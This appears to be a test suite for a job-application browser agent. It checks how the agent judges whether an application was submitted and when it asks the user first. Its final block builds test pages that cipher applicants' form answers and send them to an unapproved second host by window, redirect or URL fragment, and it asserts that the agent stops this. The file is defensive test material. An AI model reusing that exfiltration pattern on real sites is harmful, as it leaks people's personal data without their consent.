import { describe, expect, it } from 'vitest';
import { fewOf } from '#tests/setup/few-of.ts';
import { apply } from '../apply-harness.ts';
import { onSites } from './on-sites.ts';
import { asPage, QUESTIONS } from './serve-site.ts';

const { browser, sites } = await onSites();

/** Saves each answer as a draft, so that what sends need carry none. */
const SAVES = `f.onchange = () => fetch('/api/draft/77', { method: 'PUT', body: JSON.stringify(Object.fromEntries(new FormData(f))) });`;
const arrivedAt = (path: string) => sites.arrived.filter((one) => one.path.startsWith(path));

const sends = (way: string, button = 'Submit application', before = '') =>
  asPage(
    `${before}<form id="f">${QUESTIONS}<button>${button}</button></form><p role="alert" id="note"></p><script>${SAVES} f.onsubmit = async (event) => { event.preventDefault(); ${way} };</script>`,
  );
const TROUBLE = `note.textContent = 'There was a problem, please try again.';`;

describe('an application whose answers were saved before', () => {
  it.each(
    fewOf([
      ['a GET', `await fetch('/api/draft/77/submit'); ${TROUBLE}`, '/api/draft/77/submit'],
      ['a page', `location.href = '/applications/77/submit?t=abc';`, '/applications/77/submit'],
      ['a picture', `new Image().src = '/api/draft/77/finish'; ${TROUBLE}`, '/api/draft/77/finish'],
      [
        'a word to what counts visitors',
        `await fetch('/api/events', { method: 'POST', body: '{"type":"submit"}' }); ${TROUBLE}`,
        '/api/events',
      ],
      ['an address that says nothing', `await fetch('/api/b7x'); ${TROUBLE}`, '/api/b7x'],
    ]),
  )('and that goes by %s is not released for a second yes', async (_what, way, path) => {
    sites.page(path, (_request, response) =>
      response
        .writeHead(500, { 'content-type': 'text/html' })
        .end(sends('').replace('id="note">', 'id="note">There was a problem, please try again.')),
    );
    const url = sites.page('/saved-first', sends(way));
    const { journal, report } = await apply(browser.host, { url, confirmationMs: 3000 });
    expect(arrivedAt(path)).toHaveLength(1);
    expect(journal).toEqual(['armed', 'unknown']);
    expect(report.submitted).toBe('unknown');
  });

  it('and whose page complains by itself, with plain reads beside, was not sent', async () => {
    const url = sites.page(
      '/complains',
      sends(`new Image().src = '/img/warning.png'; await fetch('/locales/en/messages.json'); ${TROUBLE}`),
    );
    const { journal } = await apply(browser.host, { url, confirmationMs: 3000 });
    expect(journal[0]).toBe('armed');
    expect(journal).not.toContain('unknown');
  });

  it('is asked for where a "Next" goes to what sends it', async () => {
    const url = sites.page(
      '/next-goes',
      sends(`location.href = '/applications/78/submit';`, 'Next', '<p>Step 1 of 2</p>'),
    );
    const { report, reviews } = await apply(browser.host, { url, canSubmit: false });
    expect(arrivedAt('/applications/78/submit')).toEqual([]);
    expect(report.submitted).toBe(false);
    expect(reviews).toEqual([]);
    const done = await apply(browser.host, { url, confirmationMs: 3000 });
    expect(arrivedAt('/applications/78/submit')).toHaveLength(1);
    expect(done.reviews).toHaveLength(1);
    expect(done.report.submitted).toBe('confirmed');
  });

  it('is not known to be unsent once a "Next" went to a page that may have sent it', async () => {
    sites.page('/applications/77/b7x', (_request, response) =>
      response.writeHead(200, { 'content-type': 'text/html' }).end(asPage('<p>Well.</p>')),
    );
    const url = sites.page(
      '/next-unclear',
      sends(`location.href = '/applications/77/b7x';`, 'Next', '<p>Step 1 of 2</p>'),
    );
    const { report, journal } = await apply(browser.host, { url });
    expect(report.submitted).toBe('unknown');
    expect(journal).toEqual(['armed', 'unknown']);
    expect(arrivedAt('/applications/77/b7x')).toHaveLength(1);
  });
});

describe('an application that its page sends to another address as well', () => {
  const both = (then: string) =>
    sends(
      `const body = JSON.stringify(Object.fromEntries(new FormData(f))); const send = (to) => fetch(to, { method: 'POST', body }); ${then}`,
    );
  it.each(
    fewOf([
      [500, 1],
      [503, 1],
      [404, 2],
      [405, 2],
    ]),
  )('goes once unless the first says that it did not take it (%i)', async (status, times) => {
    for (const path of ['/v2/apply', '/v1/apply'])
      sites.page(path, (_request, response) =>
        response.writeHead(path === '/v2/apply' ? status : 200, { 'content-type': 'text/html' }).end('x'),
      );
    const url = sites.page(
      '/falls-back',
      both(
        `const first = await send('/v2/apply'); if (!first.ok) await send('/v1/apply').catch(() => 0); document.body.innerHTML = '<h1>Thank you for applying</h1>';`,
      ),
    );
    await apply(browser.host, { url, confirmationMs: 3000 });
    expect([...arrivedAt('/v2/apply'), ...arrivedAt('/v1/apply')]).toHaveLength(times);
  });

  it('goes with what the site was given of the person before, which it took', async () => {
    const send = `(path) => fetch(path, { method: 'POST', body: new URLSearchParams(new FormData(f)) })`;
    const url = sites.page(
      '/person-first',
      asPage(
        `<form id="f">${QUESTIONS}<button>Submit application</button></form><script>const send = ${send}; f.onsubmit = async (event) => { event.preventDefault(); await send('/people'); await send('/receive'); document.body.innerHTML = '<h1>Thank you for applying</h1>'; };</script>`,
      ),
    );
    const { report } = await apply(browser.host, { url });
    expect([arrivedAt('/people').length, arrivedAt('/receive').length]).toEqual([1, 1]);
    expect(report).toMatchObject({ submitted: 'confirmed', reason: '' });
  });
});

describe('numbers that may be a code of what is to be done', () => {
  it('are not taken for what the page sends by itself', async () => {
    const url = sites.page(
      '/codes',
      asPage(
        `<p>Step 1 of 2</p><form id="f">${QUESTIONS}<button type="button" id="go">Next</button></form><script>${SAVES} const op = (n) => fetch('/go', { method: 'POST', body: JSON.stringify({ op: n }) }); setInterval(() => op(1), 200); go.onclick = () => op(2).then(() => { document.body.innerHTML = '<h1>Thank you for applying</h1>'; }).catch(() => 0);</script>`,
      ),
    );
    await apply(browser.host, { url, canSubmit: false });
    expect(arrivedAt('/go').filter(({ body }) => body.includes('2'))).toEqual([]);
  });

  it('nor is a word to what counts visitors', async () => {
    const url = sites.page(
      '/orders',
      asPage(
        `<p>Step 1 of 2</p><form id="f">${QUESTIONS}<button type="button" id="go">Next</button></form><script>${SAVES} go.onclick = () => fetch('/api/events', { method: 'POST', body: '{"type":"apply"}' }).then(() => { document.body.innerHTML = '<h1>Thank you for applying</h1>'; }).catch(() => 0);</script>`,
      ),
    );
    await apply(browser.host, { url, canSubmit: false });
    expect(arrivedAt('/api/events')).toEqual([]);
  });
});

describe('once the user said yes', () => {
  const CIPHER = `const data = btoa([...new URLSearchParams(new FormData(f)).toString()].map((c) => String.fromCharCode(c.charCodeAt(0) ^ 42)).join(''));`;
  it.each(
    fewOf([
      ['a window', `open('${'TO'}/c?d=' + encodeURIComponent(data));`],
      ['a window without a query', `open('${'TO'}/' + data.replace(/\\W/g, ''));`],
      [
        'the page itself',
        `setTimeout(() => { location.href = '${'TO'}/c?d=' + encodeURIComponent(data); }, 300);`,
      ],
      [
        'a part of the address that stays in the browser',
        `setTimeout(() => { location.href = '${'TO'}/c#' + encodeURIComponent(data); }, 300);`,
      ],
    ]),
  )('nothing of theirs goes in cipher to a site that they did not approve, by %s', async (_what, way) => {
    const url = sites.page(
      '/in-cipher',
      asPage(
        `<form id="f">${QUESTIONS}<button>Submit application</button></form><script>f.onsubmit = async (event) => { event.preventDefault(); ${CIPHER} await fetch('/receive', { method: 'POST', body: new URLSearchParams(new FormData(f)) }); ${way.replaceAll('TO', sites.other)} };</script>`,
      ),
    );
    await apply(browser.host, { url, confirmationMs: 3000 });
    expect(arrivedAt('/receive')).toHaveLength(1);
    expect(sites.arrived.filter(({ site }) => site === 'other')).toEqual([]);
  });

  it.each([
    ['its page goes there', `location.href = 'TO/careers/thank-you?lang=en'`],
    ['the site leads there', `location.href = '/on'`],
  ])('thanks at another site are reached where %s', async (_what, way) => {
    sites.page('/on', (_request, response) =>
      response
        .writeHead(302, { location: `${sites.other}/thanks?a=K3jd8Sk29dkDk39dkwlq0Zmx81kqlw92kdkq82kdmnqWk` })
        .end(),
    );
    const url = sites.page(
      '/thanks-elsewhere',
      asPage(
        `<form id="f">${QUESTIONS}<button>Submit application</button></form><script>f.onsubmit = async (event) => { event.preventDefault(); await fetch('/receive', { method: 'POST', body: new URLSearchParams(new FormData(f)) }); ${way.replaceAll('TO', sites.other)} };</script>`,
      ),
    );
    const { report } = await apply(browser.host, { url });
    expect(report.submitted).toBe('confirmed');
  });
});
